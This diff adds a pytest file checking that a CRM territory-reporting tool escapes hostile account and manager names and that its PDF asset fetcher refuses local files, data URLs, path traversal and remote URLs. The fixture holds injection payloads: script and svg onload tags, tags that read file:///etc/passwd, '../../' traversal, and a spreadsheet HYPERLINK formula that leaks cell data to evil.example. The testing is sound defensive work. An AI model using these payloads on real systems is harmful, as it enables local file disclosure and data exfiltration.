@@ -1,0 +1,179 @@
+"""Hostile CRM data renders inert and legible; the URL fetcher only serves packaged assets."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+import markupsafe
+import pytest
+from conftest_books import GENERATED_ON, copy_fixture, pdf_text, render_checked, weasyprint_logs
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from territory.errors import RenderError
+from territory.reporting import build_manager_rollup, build_rep_book, load_plan_dir, render_html
+from territory.reporting.books import plan_book_jobs
+from territory.reporting.render import AssetFetcher, clip, html_to_pdf, make_environment
+
+PASSWD = Path("/etc/passwd")
+LONG = "W" * 10_000
+HOSTILE = {
+    "A-003": '<img src="file:///etc/passwd"> Evil Image Co',
+    "A-021": "<script>alert('x')</script> Script Corp",
+    "A-024": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    "A-027": "https://evil.example/path?q=1 Link Ltd",
+    "A-029": '<link rel="stylesheet" href="file:///etc/passwd"><style>@import url("file:///etc/passwd");</style>Style Inc',
+    "A-033": LONG,
+    "A-035": "שלום חברה בע״מ شركة الاختبار",
+    "A-036": "株式会社テスト 北京科技有限公司",
+    "A-039": '<svg onload="alert(1)"><image href="data:image/png;base64,AAAA"/></svg>Svg GmbH',
+}
+
+
+def _neutralise(text: str) -> str:
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
+@pytest.fixture(scope="module")
+def hostile_plan(tmp_path_factory):
+    return make_hostile_plan(tmp_path_factory.mktemp("hostile"))
+
+
+def make_hostile_plan(dest: Path):
+    """The small plan with R01's accounts renamed to hostile values, and a hostile manager."""
+    d = copy_fixture(dest)
+    path = d / "assignments.csv"
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    for r in rows:
+        if r["account_id"] in HOSTILE:
+            assert r["owner_id"] == "R01", r["account_id"]
+            r["name"] = _neutralise(HOSTILE[r["account_id"]])
+            r["why"] = '<iframe src="file:///etc/passwd"></iframe> why text'
+            r["industry"] = "<b>bold?</b>"
+    with open(path, "w", newline="", encoding="utf-8") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
+        w.writeheader()
+        w.writerows(rows)
+    summary = json.loads((d / "summary.json").read_text())
+    summary["reps"][0]["manager"] = '<img src="file:///etc/passwd">../../Boss'
+    summary["reps"][0]["region"] = "<script>x</script>West"
+    (d / "summary.json").write_text(json.dumps(summary))
+    return load_plan_dir(d)
+
+
+@pytest.fixture(scope="module")
+def hostile_render(hostile_plan):
+    fetcher = AssetFetcher()
+    pdf = render_checked(build_rep_book(hostile_plan, "R01", generated_on=GENERATED_ON), fetcher=fetcher)
+    return pdf, fetcher
+
+
+def test_only_packaged_assets_were_requested(hostile_render):
+    _, fetcher = hostile_render
+    assert fetcher.requested == ["territory-asset:print.css"]
+    assert fetcher.refused == []
+
+
+def test_no_local_file_content_in_the_pdf(hostile_render):
+    pdf, _ = hostile_render
+    text = pdf_text(pdf)
+    for line in PASSWD.read_text().splitlines()[:5]:
+        assert line not in text
+    assert "root:x:0:0" not in text and b"root:x:0" not in pdf
+
+
+def test_markup_is_shown_as_text(hostile_render):
+    text = " ".join(pdf_text(hostile_render[0]).split())
+    assert '<img src="file:///etc/passwd"> Evil Image Co' in text
+    assert "<script>alert('x')</script> Script Corp" in text
+    assert "'=HYPERLINK(" in text  # the neutralised cell, as-is
+    assert "https://evil.example/path?q=1 Link Ltd" in text
+
+
+def test_html_is_escaped_in_every_book(hostile_plan):
+    rep = render_html(build_rep_book(hostile_plan, "R01"))
+    mgr = render_html(build_manager_rollup(hostile_plan, '<img src="file:///etc/passwd">../../Boss'))
+    for html in (rep, mgr):
+        assert "<img src" not in html and "<script>" not in html and "<iframe" not in html
+        assert "&lt;img src=&#34;file:///etc/passwd&#34;&gt;" in html
+
+
+def test_very_long_name_is_shortened_and_the_book_stays_short(hostile_render):
+    pdf, _ = hostile_render
+    assert "W" * 10_000 not in pdf_text(pdf)
+    import io
+
+    import pypdf
+
+    assert len(pypdf.PdfReader(io.BytesIO(pdf)).pages) < 12
+
+
+def test_rtl_and_cjk_text_survive(hostile_render):
+    text = pdf_text(hostile_render[0])
+    assert "北京科技有限公司" in text or "株式会社" in text
+    assert "شركة" in text or "הרבח" in text or "חברה" in text
+
+
+def test_hostile_ids_and_managers_give_safe_file_names(hostile_plan):
+    names = [j.filename for j in plan_book_jobs(hostile_plan)]
+    assert all("/" not in n and not n.startswith(".") for n in names)
+    assert "manager-img-src-file-etc-passwd-boss.pdf" in names
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "file:///etc/passwd",
+        "data:text/css,body{}",
+        "http://example.com/x.css",
+        "territory-asset:../pyproject.toml",
+        "territory-asset:rep_book.html",
+        "territory-asset:__init__.py",
+        "territory-asset:/etc/passwd",
+    ],
+)
+def test_fetcher_refuses(url):
+    f = AssetFetcher()
+    with pytest.raises(RenderError):
+        f.resolve(url)
+    assert f.refused == [url]
+
+
+def test_fetcher_serves_packaged_css():
+    body, mime = AssetFetcher().resolve("territory-asset:print.css")
+    assert mime == "text/css" and b"@page" in body
+
+
+def test_injected_resources_are_refused_by_weasyprint():
+    """Even markup that escaped the templates could not read local files or data URLs."""
+    html = (
+        '<html><head><link rel="stylesheet" href="file:///etc/passwd"></head><body>'
+        '<img src="file:///etc/passwd"><img src="data:image/png;base64,iVBORw0KGgo=">'
+        '<object data="file:///etc/passwd"></object><p>visible</p></body></html>'
+    )
+    fetcher = AssetFetcher()
+    with weasyprint_logs() as records:
+        pdf, pages, _, _ = html_to_pdf(html, fetcher)
+    assert pages == 1 and b"root:x:0" not in pdf
+    assert fetcher.requested and fetcher.requested == fetcher.refused
+    assert all(u.startswith(("file:", "data:")) for u in fetcher.requested)
+    assert records  # WeasyPrint reported each refusal as a warning
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(name=st.text(max_size=400))
+def test_any_name_is_escaped(hostile_plan, name):
+    import dataclasses
+
+    ctx = build_rep_book(hostile_plan, "R02")
+    section = ctx.sections[0]
+    row = dataclasses.replace(section.rows[0], name=name)
+    ctx = dataclasses.replace(ctx, sections=(dataclasses.replace(section, rows=(row,)),) + ctx.sections[1:])
+    html = render_html(ctx, _ENV)
+    assert str(markupsafe.escape(clip(name))) in html
+
+
+_ENV = make_environment()
